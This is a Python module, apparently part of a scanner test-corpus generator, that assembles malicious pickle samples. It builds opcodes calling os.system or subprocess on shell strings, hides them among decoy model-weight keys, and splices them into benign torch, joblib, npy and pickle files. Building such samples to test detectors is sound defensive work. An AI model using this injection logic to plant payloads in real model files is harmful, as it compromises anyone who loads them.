"""Assemble one malicious sample: family x delivery x container x placement."""

import dataclasses
import random

from . import containers, deliveries, inject
from .emit import Emitter
from .expr import Call, payload_call
from .opcodes import OpWriter
from .payloads import Payloads

NESTED_TARGETS = (("os", "system"), ("subprocess", "getoutput"),
                  ("posix", "system"))

DECOY_KEYS = ("state_dict", "model", "weights", "config", "optimizer", "meta")


def marked(tree):
    """The tree with its payload call explicitly marked (so that it can be
    wrapped in decoy data without losing which call it is)."""
    target = payload_call(tree)
    if target.payload:
        return tree
    return dataclasses.replace(target, payload=True)


def nested_pickle(p, protocol=None):
    """An inner malicious pickle for the nested-deserialization families:
    a plain REDUCE of a shell call."""
    protocol = p.rng.randint(0, 5) if protocol is None else protocol
    module, name = p.rng.choice(NESTED_TARGETS)
    w = OpWriter(protocol)
    w.proto()
    from .expr import call
    Emitter(w, "reduce", p.rng).emit(call(module, name, p.shell()))
    w.stop()
    return w.getvalue()


def payload_ops(family, delivery, protocol, rng, canary, memo, memo_base=None,
                decoy=False):
    """Opcodes (no PROTO, no STOP) that run the family's payload and leave
    one value on the stack."""
    p = Payloads(rng, family.name, canary)
    tree = marked(family.build(p, nested_pickle))
    if decoy:
        keys = rng.sample(DECOY_KEYS, 3)
        tree = {keys[0]: {"layer.weight": [0.1, -0.2], "layer.bias": [0.0]},
                keys[1]: tree, keys[2]: rng.randint(1, 99)}
    w = OpWriter(protocol, memo=memo, memo_base=memo_base)
    Emitter(w, delivery, rng).emit(tree)
    return w.getvalue()


def standalone_pickle(family, delivery, protocol, rng, canary):
    w = OpWriter(protocol)
    w.proto()
    w.raw(payload_ops(family, delivery, protocol, rng, canary, memo=True,
                      decoy=rng.random() < 0.4))
    w.stop()
    return w.getvalue()


def standalone(family, delivery, container, protocol, rng, canary):
    """File bytes of a standalone malicious sample."""
    data = standalone_pickle(family, delivery, protocol, rng, canary)
    return containers.CONTAINERS[container][2](data), ""


def inject_stream(stream, family, delivery, where, rng, canary):
    protocol = inject.host_protocol(stream)
    if where == "tail":
        base = inject.memo_high_water(stream) + rng.randint(0, 5)
        ops = payload_ops(family, delivery, protocol, rng, canary, memo=True,
                          memo_base=base)
    else:
        ops = payload_ops(family, delivery, protocol, rng, canary, memo=False)
    return inject.splice(stream, ops, where, rng)


def injected(family, delivery, container, host_bytes, where, rng, canary):
    """File bytes of a benign host file with the payload spliced in; the
    second value says which pickle of a multi-pickle file was used."""
    if container == "torch_zip":
        archive, records = containers.read_torch_zip(host_bytes)
        records["data.pkl"] = inject_stream(records["data.pkl"], family,
                                            delivery, where, rng, canary)
        return containers.torch_zip(records["data.pkl"], records, archive), ""
    if container == "torch_legacy":
        # magic, protocol version, sys info, object, storage keys, raw data
        bounds = [0]
        for _ in range(5):
            bounds.append(bounds[-1] + inject.pickle_end(host_bytes[bounds[-1]:]))
        which = 0 if rng.random() < 0.2 else 3
        piece = host_bytes[bounds[which]:bounds[which + 1]]
        piece = inject_stream(piece, family, delivery, where, rng, canary)
        label = "magic-number pickle" if which == 0 else "object pickle"
        return (host_bytes[:bounds[which]] + piece + host_bytes[bounds[which + 1]:],
                label)
    if container.startswith("joblib"):
        raw = containers.unwrap(container, host_bytes)
        raw = inject_stream(raw, family, delivery, where, rng, canary)
        return containers.joblib_file(raw, containers.joblib_compression(container)), ""
    if container == "npy":
        header, stream = containers.split_npy(host_bytes)
        return header + inject_stream(stream, family, delivery, where, rng,
                                      canary), ""
    if container.startswith("pickle"):
        wrap = containers.CONTAINERS[container][2]
        raw = containers.unwrap(container, host_bytes)
        return wrap(inject_stream(raw, family, delivery, where, rng, canary)), ""
    raise ValueError(container)


def injectable_places(container, host_bytes):
    """Placements the host file allows (see inject.py)."""
    if container == "torch_zip":
        _, records = containers.read_torch_zip(host_bytes)
        return inject.places(records["data.pkl"])
    if container == "torch_legacy":
        return ("front", "inside", "tail")
    if container == "npy":
        return inject.places(containers.split_npy(host_bytes)[1])
    return inject.places(containers.unwrap(container, host_bytes))


def host_stream_protocol(container, host_bytes):
    if container == "torch_zip":
        return inject.host_protocol(containers.read_torch_zip(host_bytes)[1]["data.pkl"])
    if container == "torch_legacy":
        # The object pickle (the fourth); the header pickles are protocol 2.
        start = 0
        for _ in range(3):
            start += inject.pickle_end(host_bytes[start:])
        return inject.host_protocol(host_bytes[start:])
    if container == "npy":
        return inject.host_protocol(containers.split_npy(host_bytes)[1])
    return inject.host_protocol(containers.unwrap(container, host_bytes))
